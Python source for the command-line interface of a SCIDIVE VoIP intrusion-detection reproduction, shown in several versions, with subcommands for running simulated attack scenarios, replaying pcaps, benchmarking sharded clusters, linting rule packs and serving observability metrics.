        print(f"unknown scenario {args.name!r}; try `repro list`", file=sys.stderr)
        return 2
    engine = result.engine
    engine.snapshot_gauges()
    if args.format == "prom":
        print(ctx.registry.render_prometheus(), end="")
    elif args.format == "json":
        print(ctx.registry.render_json(indent=2))
    else:
        stats = engine.stats
        print(format_table(
            ["metric", "value"],
            [
                ["frames", stats.frames],
                ["footprints", stats.footprints],
                ["events", stats.events],
                ["alerts", stats.alerts],
                ["engine cpu (s)", f"{stats.cpu_seconds:.4f}"],
                ["frames / cpu-second", f"{stats.frames_per_cpu_second:,.0f}"],
                ["live trails", engine.trails.trail_count],
                ["live sessions", engine.trails.session_count],
                ["tracked dialogs", engine.sip_state.call_count],
                ["tracked registrations", engine.registrations.session_count],
                ["trails reclaimed", engine.expired_trails],
                ["rule evaluations skipped", engine.ruleset.dispatch_skipped],
            ],
            title=f"Pipeline counters — {args.name} (seed {args.seed})",
        ))
        print()
        print(format_stage_summary(engine.stage_summary()))
        print()
        rule_rows = [
            [r["rule_id"], r["attack_class"], r["matches_attempted"], r["alerts_raised"]]
            for r in engine.ruleset.rule_stats()
        ]
        print(format_table(
            ["rule", "class", "matches attempted", "alerts raised"],
            rule_rows, title="Per-rule activity",
        ))
    _export_observability(ctx, args)
    return 0


def _cmd_bench_shards(args: argparse.Namespace) -> int:
    """Sweep ScidiveCluster worker counts on the mixed workload."""
    import json as _json

    from repro.cluster.benchmark import (
        build_scaling_workload,
        format_sweep,
        run_scaling_sweep,
    )

    trace = build_scaling_workload(
        sessions=args.sessions, packets_per_session=args.packets, seed=args.seed,
    )
    report = run_scaling_sweep(
        trace, worker_counts=tuple(args.workers),
        backend=args.cluster_backend, batch_size=args.batch_size,
    )
    print(format_sweep(report))
    if args.json:
        with open(args.json, "w", encoding="utf-8") as fh:
            _json.dump(report, fh, indent=2)
            fh.write("\n")
        print(f"sweep report written to {args.json}")
    if not report["equivalent"]:
        print("FAIL: cluster and single-engine alerts disagree", file=sys.stderr)
        return 1
    return 0


def _cmd_table1(args: argparse.Namespace) -> int:
    from repro.experiments.table1 import TABLE1_HEADERS, build_table1

    rows = build_table1(seed=args.seed)
    print(format_table(TABLE1_HEADERS, [r.cells() for r in rows], title="Table 1"))
    return 0


def _cmd_modules(args: argparse.Namespace) -> int:
    """Describe the registered protocol modules (the stock pipeline)."""
    from repro.core.protocols import default_modules

    rows = []
    for module in default_modules():
        generators = module.generators()
        rules = module.rules()
        rows.append([
            module.name,
            ",".join(sorted(p.value for p in module.protocols)),
            "yes" if module.decoder is not None else "-",
            ", ".join(g.name for g in generators),
            ", ".join(r.rule_id for r in rules),
        ])
    print(format_table(
        ["module", "protocols", "decoder", "generators", "rules"],
        rows, title="Registered protocol modules",
    ))
    return 0


def _cmd_list(args: argparse.Namespace) -> int:
    print("attack scenarios:")
    for name in ATTACK_SCENARIOS:
        print(f"  {name}")
    print("benign scenarios:")
    for kind in BENIGN_KINDS:
        print(f"  benign-{kind}")
    return 0


def main(argv: Sequence[str] | None = None) -> int:
    args = _build_parser().parse_args(argv)
    if args.log_level:
        obs.setup_logging(level=args.log_level, json_lines=args.log_json)
    handlers = {
        "scenario": _cmd_scenario,
        "replay": _cmd_replay,
        "bench-shards": _cmd_bench_shards,
        "stats": _cmd_stats,
        "table1": _cmd_table1,
        "modules": _cmd_modules,
        "list": _cmd_list,
    }
    return handlers[args.command](args)


if __name__ == "__main__":  # pragma: no cover
    sys.exit(main())
