"""Command-line interface: run scenarios, replay captures, print Table 1.

Usage::

    python -m repro scenario bye-attack [--seed 7] [--pcap out.pcap] [--json alerts.jsonl]
    python -m repro replay capture.pcap [--vantage 10.0.0.10] [--json alerts.jsonl]
    python -m repro table1 [--seed 7]
    python -m repro list

``scenario`` drives the full simulated testbed (attack or benign),
``replay`` runs the IDS offline over a standard pcap, ``table1``
regenerates the paper's attack matrix.
"""

from __future__ import annotations

import argparse
import sys
from typing import Callable, Sequence

from repro.core.export import write_alerts_jsonl
from repro.experiments.harness import (
    BENIGN_KINDS,
    ExperimentResult,
    run_benign,
    run_billing_fraud,
    run_bye_attack,
    run_call_hijack,
    run_fake_im,
    run_password_guess,
    run_register_dos,
    run_rtcp_bye_attack,
    run_rtp_attack,
    run_ssrc_spoof,
)
from repro.experiments.report import format_table

ATTACK_SCENARIOS: dict[str, Callable[..., ExperimentResult]] = {
    "bye-attack": run_bye_attack,
    "call-hijack": run_call_hijack,
    "fake-im": run_fake_im,
    "rtp-attack": run_rtp_attack,
    "register-dos": run_register_dos,
    "password-guess": run_password_guess,
    "billing-fraud": run_billing_fraud,
    "rtcp-bye": run_rtcp_bye_attack,
    "ssrc-spoof": run_ssrc_spoof,
}


def _build_parser() -> argparse.ArgumentParser:
    parser = argparse.ArgumentParser(
        prog="repro", description="SCIDIVE reproduction command line"
    )
    sub = parser.add_subparsers(dest="command", required=True)

    scenario = sub.add_parser("scenario", help="run an attack or benign scenario")
    scenario.add_argument("name", help="scenario name (see `repro list`)")
    scenario.add_argument("--seed", type=int, default=7)
    scenario.add_argument("--pcap", help="write the tap capture to this pcap file")
    scenario.add_argument("--json", help="write alerts to this JSON-lines file")

    replay = sub.add_parser("replay", help="replay a pcap through the IDS")
    replay.add_argument("pcap", help="pcap file (LINKTYPE_ETHERNET)")
    replay.add_argument("--vantage", default=None,
                        help="protected endpoint IP (default: network-wide)")
    replay.add_argument("--json", help="write alerts to this JSON-lines file")

    table1 = sub.add_parser("table1", help="regenerate the paper's Table 1")
    table1.add_argument("--seed", type=int, default=7)

    sub.add_parser("list", help="list available scenarios")
    return parser


def _print_alerts(result_alerts) -> None:
    if not result_alerts:
        print("no alerts")
        return
    rows = [
        [f"{a.time:9.4f}", a.rule_id, a.severity.name, a.session or "-", a.message]
        for a in result_alerts
    ]
    print(format_table(["t (s)", "rule", "severity", "session", "message"], rows))


def _cmd_scenario(args: argparse.Namespace) -> int:
    name = args.name
    if name in ATTACK_SCENARIOS:
        result = ATTACK_SCENARIOS[name](seed=args.seed)
    elif name.removeprefix("benign-") in BENIGN_KINDS:
        result = run_benign(name.removeprefix("benign-"), seed=args.seed)
    else:
        print(f"unknown scenario {name!r}; try `repro list`", file=sys.stderr)
        return 2
    print(f"scenario {name}: {result.engine.stats.frames} frames, "
          f"{result.engine.stats.footprints} footprints, "
          f"{result.engine.stats.events} events")
    _print_alerts(result.alerts)
    if args.pcap:
        from repro.net.pcap import write_pcap

        write_pcap(args.pcap, result.testbed.ids_tap.trace)
        print(f"capture written to {args.pcap}")
    if args.json:
        count = write_alerts_jsonl(args.json, result.alerts)
        print(f"{count} alerts written to {args.json}")
    return 0


def _cmd_replay(args: argparse.Namespace) -> int:
    from repro.core.engine import ScidiveEngine
    from repro.net.pcap import read_pcap

    trace = read_pcap(args.pcap)
    engine = ScidiveEngine(vantage_ip=args.vantage)
    engine.process_trace(trace)
    print(f"replayed {len(trace)} frames: {engine.stats.footprints} footprints, "
          f"{engine.stats.events} events, {len(engine.alerts)} alerts")
    _print_alerts(engine.alerts)
    if args.json:
        count = write_alerts_jsonl(args.json, engine.alerts)
        print(f"{count} alerts written to {args.json}")
    return 0


def _cmd_table1(args: argparse.Namespace) -> int:
    from repro.experiments.table1 import TABLE1_HEADERS, build_table1

    rows = build_table1(seed=args.seed)
    print(format_table(TABLE1_HEADERS, [r.cells() for r in rows], title="Table 1"))
    return 0


def _cmd_list(args: argparse.Namespace) -> int:
    print("attack scenarios:")
    for name in ATTACK_SCENARIOS:
        print(f"  {name}")
    print("benign scenarios:")
    for kind in BENIGN_KINDS:
        print(f"  benign-{kind}")
    return 0


def main(argv: Sequence[str] | None = None) -> int:
    args = _build_parser().parse_args(argv)
    handlers = {
        "scenario": _cmd_scenario,
        "replay": _cmd_replay,
        "table1": _cmd_table1,
        "list": _cmd_list,
    }
    return handlers[args.command](args)


if __name__ == "__main__":  # pragma: no cover
    sys.exit(main())
