"""Command-line interface: run scenarios, replay captures, print Table 1.

Usage::

    python -m repro scenario bye-attack [--seed 7] [--pcap out.pcap] [--json alerts.jsonl]
                                        [--workers 4] [--batch-size 64]
                                        [--metrics-out m.txt] [--trace-out t.jsonl]
                                        [--serve-http 8080] [--serve-linger 10]
                                        [--bundle-dir bundles/]
    python -m repro replay capture.pcap [--vantage 10.0.0.10] [--json alerts.jsonl]
                                        [--workers 4] [--cluster-backend process]
                                        [--metrics-out m.txt] [--trace-out t.jsonl]
                                        [--serve-http 8080] [--bundle-dir bundles/]
    python -m repro explain scidive-1 --bundle-dir bundles/
    python -m repro chaos [--seed 7] [--workers 4] [--json chaos.json]
    python -m repro bench-shards [--workers 1 2 4 8] [--json BENCH_shards.json]
    python -m repro stats bye-attack [--seed 7] [--format table|prom|json]
    python -m repro rules check rules/ [pack.rules ...]
    python -m repro rules show rules/scidive-core.rules
    python -m repro rules reload --pack custom.rules [--port 8080]
    python -m repro top [--port 8080] [--interval 1.0] [--once]
    python -m repro trace <call-id|alert-id|trace-id> [--trace-file t.jsonl]
    python -m repro profile [--scenario bye-attack] [--once] [--out hot.collapsed]
    python -m repro table1 [--seed 7]
    python -m repro modules
    python -m repro list

``scenario`` drives the full simulated testbed (attack or benign),
``replay`` runs the IDS offline over a standard pcap (``--broadcast``
disables indexed dispatch for A/B comparison), ``stats`` runs a
scenario with full observability and prints the per-stage/per-rule
report, ``table1`` regenerates the paper's attack matrix, ``modules``
lists the registered protocol modules with their generators and rules.
``bench-shards`` sweeps the session-sharded cluster across worker
counts.  ``--workers N`` (scenario/replay) shards the replay across N
worker engines by session affinity (see :mod:`repro.cluster`);
``--metrics-out`` writes Prometheus-text metrics, ``--trace-out``
writes a JSON-lines span trace; ``--log-level`` turns on structured
logging for any command.

Forensics surface: ``--serve-http PORT`` (scenario/replay) runs the
observability sidecar (``/metrics``, ``/metrics/history``, ``/healthz``,
``/alerts``) for the duration of the run plus ``--serve-linger``
seconds — ``repro top`` renders a live dashboard over it; ``--bundle-dir``
makes every alert write an evidence bundle (JSON + pcap) there, and
``explain`` renders one bundle by alert id.

Rule packs (:mod:`repro.rulespec`): ``replay --rules PACK`` compiles the
detection policy from a ``.rules`` file instead of the built-in rule
classes (single engine and ``--workers N`` alike); ``rules check`` lints
packs with line-anchored diagnostics (exit 1 on errors — CI runs it);
``rules show`` prints a pack's identity (name@version+hash) and compiled
rules; ``rules reload`` hot-swaps the pack on a *running* engine or
cluster through its ``--serve-http`` sidecar (``POST /rules/reload``).

Cluster tracing works at any worker count: under ``--workers N`` the
router head-samples sessions by shard key (``--trace-sample``, default
1 = every session), workers record spans gated on the propagated trace
context, and ``--trace-out`` writes the merged time-sorted timeline.
``repro trace <id>`` renders one call's journey (sharder → queue →
pipeline stages → alert) from that file or a live ``/trace`` endpoint;
``repro profile`` samples a replay's hot path into collapsed-stack
(flamegraph-ready) form, and ``--profile-out DIR`` attaches the same
sampler to every cluster worker.
"""

from __future__ import annotations

import argparse
import sys
import time as _time
from contextlib import contextmanager as _contextmanager
from typing import Callable, Sequence

from repro import obs
from repro.core.export import write_alerts_jsonl
from repro.experiments.harness import (
    BENIGN_KINDS,
    ExperimentResult,
    run_benign,
    run_billing_fraud,
    run_bye_attack,
    run_call_hijack,
    run_fake_im,
    run_password_guess,
    run_register_dos,
    run_rtcp_bye_attack,
    run_rtp_attack,
    run_ssrc_spoof,
)
from repro.experiments.report import format_stage_summary, format_table

ATTACK_SCENARIOS: dict[str, Callable[..., ExperimentResult]] = {
    "bye-attack": run_bye_attack,
    "call-hijack": run_call_hijack,
    "fake-im": run_fake_im,
    "rtp-attack": run_rtp_attack,
    "register-dos": run_register_dos,
    "password-guess": run_password_guess,
    "billing-fraud": run_billing_fraud,
    "rtcp-bye": run_rtcp_bye_attack,
    "ssrc-spoof": run_ssrc_spoof,
}


def _build_parser() -> argparse.ArgumentParser:
    parser = argparse.ArgumentParser(
        prog="repro", description="SCIDIVE reproduction command line"
    )
    parser.add_argument(
        "--log-level", default=None,
        choices=["DEBUG", "INFO", "WARNING", "ERROR"],
        help="enable structured logging at this level",
    )
    parser.add_argument(
        "--log-json", action="store_true",
        help="emit log records as JSON lines instead of key=value text",
    )
    sub = parser.add_subparsers(dest="command", required=True)

    scenario = sub.add_parser("scenario", help="run an attack or benign scenario")
    scenario.add_argument("name", help="scenario name (see `repro list`)")
    scenario.add_argument("--seed", type=int, default=7)
    scenario.add_argument("--pcap", help="write the tap capture to this pcap file")
    scenario.add_argument("--json", help="write alerts to this JSON-lines file")
    _add_cluster_flags(scenario)
    _add_obs_flags(scenario)
    _add_serve_flags(scenario)

    replay = sub.add_parser("replay", help="replay a pcap through the IDS")
    replay.add_argument("pcap", help="pcap file (LINKTYPE_ETHERNET)")
    replay.add_argument("--vantage", default=None,
                        help="protected endpoint IP (default: network-wide)")
    replay.add_argument("--json", help="write alerts to this JSON-lines file")
    replay.add_argument("--broadcast", action="store_true",
                        help="disable indexed dispatch (reference fan-out mode)")
    replay.add_argument("--rules", default=None, metavar="PACK",
                        help="compile the detection policy from this .rules "
                             "pack instead of the built-in rule classes")
    _add_cluster_flags(replay)
    _add_obs_flags(replay)
    _add_serve_flags(replay)

    explain = sub.add_parser(
        "explain", help="render an alert's evidence bundle (graph + timeline)"
    )
    explain.add_argument("alert_id", help="alert id, e.g. scidive-1 (see /alerts "
                                          "or the bundle filenames)")
    explain.add_argument("--bundle-dir", default=".",
                         help="directory holding <alert-id>.json bundles")

    bench = sub.add_parser(
        "bench-shards",
        help="sweep the session-sharded cluster across worker counts",
    )
    bench.add_argument("--workers", type=int, nargs="+", default=[1, 2, 4, 8],
                       help="worker counts to sweep")
    bench.add_argument("--cluster-backend", default="process",
                       choices=["process", "threads", "serial"],
                       help="worker transport (default: process)")
    bench.add_argument("--batch-size", type=int, default=64)
    bench.add_argument("--sessions", type=int, default=96,
                       help="distinct synthetic media sessions in the workload")
    bench.add_argument("--packets", type=int, default=40,
                       help="RTP packets per media session")
    bench.add_argument("--seed", type=int, default=33)
    bench.add_argument("--json", help="write the sweep report to this JSON file")

    chaos = sub.add_parser(
        "chaos",
        help="replay the paper attacks under fault injection and check "
             "the crash-safety invariants",
    )
    chaos.add_argument("--seed", type=int, default=7)
    chaos.add_argument("--attacks", nargs="+", default=None,
                       help="attacks to replay (default: all four paper attacks)")
    chaos.add_argument("--workers", type=int, default=0,
                       help="0 = single engine; N = ScidiveCluster with N "
                            "workers, checkpointing on, crash injection")
    chaos.add_argument("--cluster-backend", default="threads",
                       choices=["process", "threads"],
                       help="worker transport (with --workers > 0)")
    chaos.add_argument("--no-crashes", action="store_true",
                       help="skip worker crash injection (cluster mode)")
    chaos.add_argument("--mutation-rate", type=float, default=0.25,
                       help="probability a media frame spawns a mutated copy")
    chaos.add_argument("--flood", type=int, default=0, metavar="N",
                       help="interleave an N-frame INVITE/RTP flood from one "
                            "attacker host and check the overload controller "
                            "sheds it without losing the paper-attack alerts "
                            "(with --workers > 0)")
    chaos.add_argument("--json", help="write the chaos report to this JSON file")

    stats = sub.add_parser(
        "stats", help="run a scenario with full observability and report"
    )
    stats.add_argument("name", help="scenario name (see `repro list`)")
    stats.add_argument("--seed", type=int, default=7)
    stats.add_argument("--format", choices=["table", "prom", "json"], default="table",
                       help="report format: human tables, Prometheus text, or JSON")
    _add_obs_flags(stats)

    rules = sub.add_parser(
        "rules", help="lint, inspect and hot-reload detection rule packs"
    )
    rules_sub = rules.add_subparsers(dest="rules_command", required=True)
    check = rules_sub.add_parser(
        "check", help="lint rule packs (exit 1 on any error)"
    )
    check.add_argument("paths", nargs="+", metavar="PACK",
                       help=".rules file or a directory to scan recursively")
    show = rules_sub.add_parser(
        "show", help="print a pack's identity and compiled rules"
    )
    show.add_argument("pack", metavar="PACK", help=".rules file")
    reload_ = rules_sub.add_parser(
        "reload",
        help="hot-swap the rule pack on a running --serve-http engine/cluster",
    )
    reload_.add_argument("--pack", required=True, metavar="PACK",
                         help=".rules file to load (path is resolved by the "
                              "serving process)")
    reload_.add_argument("--url", default=None,
                         help="sidecar base URL (overrides --host/--port)")
    reload_.add_argument("--host", default="127.0.0.1")
    reload_.add_argument("--port", type=int, default=8080)

    top = sub.add_parser(
        "top", help="live dashboard over a running --serve-http sidecar"
    )
    top.add_argument("--url", default=None,
                     help="sidecar base URL (overrides --host/--port)")
    top.add_argument("--host", default="127.0.0.1")
    top.add_argument("--port", type=int, default=8080)
    top.add_argument("--interval", type=float, default=1.0,
                     help="refresh period in seconds (curses mode)")
    top.add_argument("--window", type=float, default=10.0,
                     help="sliding window for the rate panel, in seconds")
    top.add_argument("--once", action="store_true",
                     help="print one plain-text snapshot and exit "
                          "(no curses; scripts and CI use this)")

    trace_p = sub.add_parser(
        "trace",
        help="frame-journey audit: render one call's path through the "
             "cluster (sharder → queue → pipeline stages → alert)",
    )
    trace_p.add_argument("id", help="trace id, SIP Call-ID, or alert id "
                                    "(alert ids need --bundle-dir)")
    trace_p.add_argument("--trace-file", default="trace.jsonl",
                         help="merged span timeline written by --trace-out "
                              "(default: trace.jsonl)")
    trace_p.add_argument("--url", default=None,
                         help="fetch spans from a live sidecar's /trace "
                              "endpoint instead of --trace-file")
    trace_p.add_argument("--host", default="127.0.0.1")
    trace_p.add_argument("--port", type=int, default=None,
                         help="live sidecar port (implies --url)")
    trace_p.add_argument("--bundle-dir", default=None,
                         help="resolve alert ids through the evidence "
                              "bundles in this directory")
    trace_p.add_argument("--limit", type=int, default=None,
                         help="show at most the last N spans of the journey")

    profile_p = sub.add_parser(
        "profile",
        help="sample a replay's hot path and write a collapsed-stack "
             "(flamegraph-ready) profile",
    )
    profile_p.add_argument("--scenario", default="bye-attack",
                           help="scenario workload to profile "
                                "(see `repro list`; default: bye-attack)")
    profile_p.add_argument("--pcap", default=None,
                           help="profile a pcap replay instead of a scenario")
    profile_p.add_argument("--vantage", default=None,
                           help="protected endpoint IP for --pcap replays")
    profile_p.add_argument("--seed", type=int, default=7)
    profile_p.add_argument("--interval", type=float, default=0.005,
                           help="sampling period in seconds (default 0.005)")
    profile_p.add_argument("--passes", type=int, default=0,
                           help="replay the workload exactly N times "
                                "(default: keep replaying until ctrl-c)")
    profile_p.add_argument("--once", action="store_true",
                           help="replay for about one second of samples and "
                                "exit (CI smoke mode)")
    profile_p.add_argument("--out", default=None,
                           help="collapsed-stack output file "
                                "(default: <workload>.collapsed)")
    profile_p.add_argument("--top", type=int, default=12, dest="top_n",
                           help="rows in the hottest-frames table")

    table1 = sub.add_parser("table1", help="regenerate the paper's Table 1")
    table1.add_argument("--seed", type=int, default=7)

    workload = sub.add_parser(
        "workload",
        help="generate labeled virtual-carrier workloads and score "
             "detection quality against ground truth (§4.3)",
    )
    workload_sub = workload.add_subparsers(dest="workload_command", required=True)
    wl_generate = workload_sub.add_parser(
        "generate", help="synthesize a labeled trace and write the artifacts"
    )
    _add_workload_spec_flags(wl_generate)
    wl_generate.add_argument("--out", default="workload-out",
                             help="artifact directory (trace.pcap, truth.json, "
                                  "stats.json)")
    wl_check = workload_sub.add_parser(
        "check", help="lint workload scenario specs (exit 1 on any error)"
    )
    wl_check.add_argument("paths", nargs="+", metavar="SPEC",
                          help=".workload spec file or a directory to scan "
                               "recursively")
    wl_run = workload_sub.add_parser(
        "run",
        help="generate a labeled trace, run the detection systems over it "
             "and print the Section 4.3 quality report",
    )
    _add_workload_spec_flags(wl_run)
    _add_workload_eval_flags(wl_run)
    wl_run.add_argument("--out", default=None,
                        help="also write trace/truth/report artifacts here")
    wl_report = workload_sub.add_parser(
        "report",
        help="score saved artifacts (trace.pcap + truth.json) without "
             "regenerating the workload",
    )
    wl_report.add_argument("--trace", required=True, help="trace pcap file")
    wl_report.add_argument("--truth", required=True,
                           help="ground-truth labels JSON")
    _add_workload_eval_flags(wl_report)

    sub.add_parser("modules", help="list registered protocol modules")
    sub.add_parser("list", help="list available scenarios")
    return parser


def _add_workload_spec_flags(parser: argparse.ArgumentParser) -> None:
    parser.add_argument("--spec", default=None, metavar="SPEC",
                        help=".workload scenario spec (default: built-in "
                             "200-subscriber scenario)")
    parser.add_argument("--subscribers", type=int, default=None,
                        help="override the population size")
    parser.add_argument("--duration", type=float, default=None,
                        help="override the simulated seconds")
    parser.add_argument("--seed", type=int, default=None,
                        help="override the generator seed")
    parser.add_argument("--start-hour", type=float, default=None,
                        help="override the diurnal clock's starting hour")
    parser.add_argument("--mix", nargs="+", default=None, metavar="KEY=VALUE",
                        help="attack mix overrides: 'attacks=0.01' sets the "
                             "attack-to-benign-session ratio; '<kind>=<count>' "
                             "pins one attack kind (e.g. bye=3 rtp=auto "
                             "register-dos=0)")


def _add_workload_eval_flags(parser: argparse.ArgumentParser) -> None:
    parser.add_argument("--systems", nargs="+",
                        default=["engine", "cluster", "baseline"],
                        choices=["engine", "cluster", "baseline"],
                        help="detection systems to score")
    parser.add_argument("--workers", type=int, default=4,
                        help="cluster worker count")
    parser.add_argument("--cluster-backend", default="threads",
                        choices=["process", "threads", "serial"],
                        help="cluster worker transport")
    parser.add_argument("--overload", action="store_true",
                        help="run the scored cluster with the adaptive "
                             "overload controller enabled (the flood "
                             "scenarios' degraded-mode configuration)")
    parser.add_argument("--sweeps", action="store_true",
                        help="include the threshold-sweep operating curves "
                             "(re-runs the engine per threshold)")
    parser.add_argument("--json", default=None,
                        help="write the quality report to this JSON file")
    parser.add_argument("--fail-on-miss", action="store_true",
                        help="exit 1 if the engine or cluster misses any "
                             "attack (the CI quality gate)")


def _add_obs_flags(parser: argparse.ArgumentParser) -> None:
    parser.add_argument("--metrics-out",
                        help="write Prometheus-text metrics to this file")
    parser.add_argument("--trace-out",
                        help="write the per-frame span trace to this JSON-lines "
                             "file (with --workers N: the merged cluster "
                             "timeline)")
    parser.add_argument("--trace-sample", type=int, default=1, metavar="N",
                        help="cluster tracing: sample 1-in-N sessions "
                             "(default 1 = trace every session)")
    parser.add_argument("--profile-out", default=None, metavar="DIR",
                        help="attach a sampling stack profiler and write "
                             "collapsed-stack profiles (engine.collapsed, or "
                             "worker-N.collapsed per cluster worker) here")


def _add_serve_flags(parser: argparse.ArgumentParser) -> None:
    parser.add_argument("--serve-http", type=int, metavar="PORT", default=None,
                        help="serve /metrics, /healthz and /alerts on this "
                             "port for the duration of the run (0 = ephemeral)")
    parser.add_argument("--serve-linger", type=float, metavar="SECONDS",
                        default=0.0,
                        help="keep the HTTP sidecar up this long after the "
                             "run finishes (with --serve-http)")
    parser.add_argument("--bundle-dir", default=None,
                        help="write an evidence bundle (JSON + pcap) here for "
                             "every alert; render with `repro explain`")


def _start_server(args: argparse.Namespace):
    """Start the observability sidecar when --serve-http was given."""
    port = getattr(args, "serve_http", None)
    if port is None:
        return None
    from repro.obs.server import ObsServer

    server = ObsServer(port=port).start()
    print(f"observability sidecar on {server.url()} "
          "(/metrics /metrics/history /healthz /alerts /trace)")
    return server


def _linger(server, args: argparse.Namespace) -> None:
    linger = getattr(args, "serve_linger", 0.0) or 0.0
    if server is None or linger <= 0:
        return
    print(f"sidecar serving for another {linger:g}s (ctrl-c to stop early)")
    try:
        _time.sleep(linger)
    except KeyboardInterrupt:
        pass


def _add_cluster_flags(parser: argparse.ArgumentParser) -> None:
    parser.add_argument("--workers", type=int, default=1,
                        help="shard the replay across N worker engines (default 1: "
                             "single engine)")
    parser.add_argument("--batch-size", type=int, default=64,
                        help="frames per worker batch (with --workers > 1)")
    parser.add_argument("--cluster-backend", default="process",
                        choices=["process", "threads", "serial"],
                        help="worker transport (with --workers > 1)")
    parser.add_argument("--overload", action="store_true",
                        help="enable the adaptive overload controller: "
                             "brownout/shed state machine with a per-source "
                             "penalty box (cluster, or single-engine replay)")


def _cluster_replay(trace, args: argparse.Namespace, vantage: str | None,
                    source=None):
    """Replay a trace through a ScidiveCluster; print the merged view."""
    from repro.cluster import ScidiveCluster

    pack_fields = {}
    rules_path = getattr(args, "rules", None)
    if rules_path:
        from repro.rulespec import load_pack

        pack = load_pack(rules_path)
        # The pack crosses to workers as config primitives, so process
        # workers and post-crash respawns compile the same policy.
        pack_fields = {"pack_text": pack.source_text,
                       "pack_path": pack.source_path}
    trace_out = getattr(args, "trace_out", None)
    profile_dir = getattr(args, "profile_out", None)
    cluster = ScidiveCluster(
        workers=args.workers,
        backend=args.cluster_backend,
        batch_size=args.batch_size,
        vantage_ip=vantage,
        metrics_enabled=bool(
            getattr(args, "metrics_out", None)
            or getattr(args, "serve_http", None) is not None
        ),
        trace_enabled=bool(trace_out),
        trace_sample_rate=max(1, getattr(args, "trace_sample", 1) or 1),
        profile_dir=profile_dir,
        overload_enabled=getattr(args, "overload", False),
        **pack_fields,
    )
    if source is not None:
        # Bind before the replay starts so /healthz and /metrics answer
        # mid-run (router-side view; the merged view appears at stop).
        source.set_cluster(cluster)
    result = cluster.process_trace(trace)
    stats = result.stats
    print(f"cluster replay ({args.workers} workers, {args.cluster_backend}): "
          f"{result.cluster.frames_in} frames in, "
          f"{stats.footprints} footprints, {stats.events} events, "
          f"{len(result.alerts)} alerts, "
          f"{result.cluster.batches_submitted} batches, "
          f"{result.cluster.worker_restarts} restarts")
    status = cluster.overload_status()
    if status is not None:
        shed = result.cluster.frames_shed
        shed_txt = ", ".join(
            f"{plane}={count:,}" for plane, count in sorted(shed.items())
        ) or "none"
        print(f"overload: state={status['state']} "
              f"transitions={status['transitions_total'] or '{}'} "
              f"shed by plane: {shed_txt}")
        heavy = sorted(
            status.get("shed_by_source", {}).items(),
            key=lambda kv: -kv[1],
        )[:5]
        if heavy:
            print("  penalty box: " + "  ".join(
                f"{ip}={count:,}" for ip, count in heavy
            ))
    if trace_out:
        count = obs.write_spans_jsonl(trace_out, result.trace or [])
        dropped = result.cluster.spans_dropped
        suffix = f" ({dropped} dropped at the span cap)" if dropped else ""
        print(f"{count} merged spans written to {trace_out}{suffix}")
    if profile_dir:
        print(f"worker profiles (collapsed stacks) in {profile_dir}/")
    return result


def _print_alerts(result_alerts) -> None:
    if not result_alerts:
        print("no alerts")
        return
    rows = [
        [f"{a.time:9.4f}", a.rule_id, a.severity.name, a.session or "-", a.message]
        for a in result_alerts
    ]
    print(format_table(["t (s)", "rule", "severity", "session", "message"], rows))


def _run_scenario(name: str, seed: int) -> ExperimentResult | None:
    if name in ATTACK_SCENARIOS:
        return ATTACK_SCENARIOS[name](seed=seed)
    if name.removeprefix("benign-") in BENIGN_KINDS:
        return run_benign(name.removeprefix("benign-"), seed=seed)
    return None


def _export_observability(ctx: obs.Observability | None, args: argparse.Namespace,
                          engine=None) -> None:
    if ctx is None:
        return
    if args.metrics_out:
        pack = getattr(engine, "rulepack", None) if engine is not None else None
        obs.set_build_info(ctx.registry, backend="engine",
                           pack=pack.label if pack is not None else None)
        ctx.registry.write_prometheus(args.metrics_out)
        print(f"metrics written to {args.metrics_out}")
    if args.trace_out and ctx.tracer is not None:
        count = ctx.tracer.write_jsonl(args.trace_out)
        print(f"{count} spans written to {args.trace_out}")


@_contextmanager
def _maybe_profile(args: argparse.Namespace, label: str):
    """Attach a sampling profiler for the block when --profile-out was given."""
    out_dir = getattr(args, "profile_out", None)
    if not out_dir:
        yield None
        return
    import os as _os

    from repro.obs.profile import StackSampler

    sampler = StackSampler().start()
    try:
        yield sampler
    finally:
        sampler.stop()
        _os.makedirs(out_dir, exist_ok=True)
        path = _os.path.join(out_dir, f"{label}.collapsed")
        count = sampler.write_collapsed(path)
        print(f"{count} profile samples written to {path}")


def _cmd_scenario(args: argparse.Namespace) -> int:
    if args.bundle_dir:
        obs.configure_forensics(bundle_dir=args.bundle_dir)
    server = _start_server(args)
    try:
        want_obs = bool(args.metrics_out or args.trace_out or server) \
            and args.workers <= 1
        ctx = obs.enable(trace=bool(args.trace_out)) if want_obs else None
        if server is not None and ctx is not None:
            server.source.set_registry(ctx.registry)
        try:
            if args.workers <= 1:
                with _maybe_profile(args, "engine"):
                    result = _run_scenario(args.name, args.seed)
            else:
                result = _run_scenario(args.name, args.seed)
        finally:
            obs.disable()
        if result is None:
            print(f"unknown scenario {args.name!r}; try `repro list`",
                  file=sys.stderr)
            return 2
        print(f"scenario {args.name}: {result.engine.stats.frames} frames, "
              f"{result.engine.stats.footprints} footprints, "
              f"{result.engine.stats.events} events")
        if args.workers > 1:
            from collections import Counter

            cluster_result = _cluster_replay(
                result.testbed.ids_tap.trace, args, result.engine.vantage_ip,
                source=server.source if server is not None else None,
            )
            _print_alerts(cluster_result.alerts)
            same = Counter(cluster_result.alerts) == Counter(result.alerts)
            print("cluster alerts match the single-engine run" if same
                  else "WARNING: cluster alerts DIFFER from the single-engine run")
            alerts = cluster_result.alerts
            if args.metrics_out and cluster_result.registry is not None:
                cluster_result.registry.write_prometheus(args.metrics_out)
                print(f"merged cluster metrics written to {args.metrics_out}")
        else:
            if server is not None:
                server.source.set_engine(result.engine)
            _print_alerts(result.alerts)
            alerts = result.alerts
        if args.pcap:
            from repro.net.pcap import write_pcap

            write_pcap(args.pcap, result.testbed.ids_tap.trace)
            print(f"capture written to {args.pcap}")
        if args.json:
            count = write_alerts_jsonl(args.json, alerts)
            print(f"{count} alerts written to {args.json}")
        if args.bundle_dir:
            _write_malformed(args.bundle_dir, result.engine)
            written = obs.list_bundles(args.bundle_dir)
            print(f"{len(written)} evidence bundles in {args.bundle_dir}")
        _export_observability(ctx, args, engine=result.engine)
        _linger(server, args)
        return 0
    finally:
        if server is not None:
            server.stop()
        if args.bundle_dir:
            obs.configure_forensics(bundle_dir=None)


def _write_malformed(bundle_dir: str, engine) -> None:
    """Persist the engine's malformed-frame quarantine (if any) so
    ``repro explain malformed`` can render the hostile input."""
    if engine.forensics is None:
        return
    path = obs.write_malformed_bundle(bundle_dir, engine.forensics)
    if path is not None:
        count = len(engine.forensics.malformed_records())
